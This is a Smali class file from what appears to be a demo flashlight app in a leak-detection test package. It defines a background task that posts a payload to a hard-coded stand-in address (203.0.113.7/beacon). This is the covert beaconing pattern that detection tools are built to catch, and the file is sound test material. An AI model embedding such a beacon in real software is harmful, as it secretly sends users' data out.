.class final Lorg/leakscope/demo/flashlight/BeaconTask;
.super Ljava/lang/Object;
.source "BeaconTask.java"

# implemented interfaces
.implements Ljava/lang/Runnable;

# Runs on a Thread: posts its payload to a hard-coded IP address
# (203.0.113.7 is TEST-NET-3, RFC 5737: documentation only).

.field private final payload:Ljava/lang/String;


.method constructor <init>(Ljava/lang/String;)V
    .registers 2

    invoke-direct {p0}, Ljava/lang/Object;-><init>()V

    iput-object p1, p0, Lorg/leakscope/demo/flashlight/BeaconTask;->payload:Ljava/lang/String;

    return-void
.end method


.method public run()V
    .registers 3

    const-string v0, "http://203.0.113.7/beacon"

    iget-object v1, p0, Lorg/leakscope/demo/flashlight/BeaconTask;->payload:Ljava/lang/String;

    invoke-static {v0, v1}, Lorg/leakscope/demo/flashlight/Http;->post(Ljava/lang/String;Ljava/lang/String;)I

    return-void
.end method
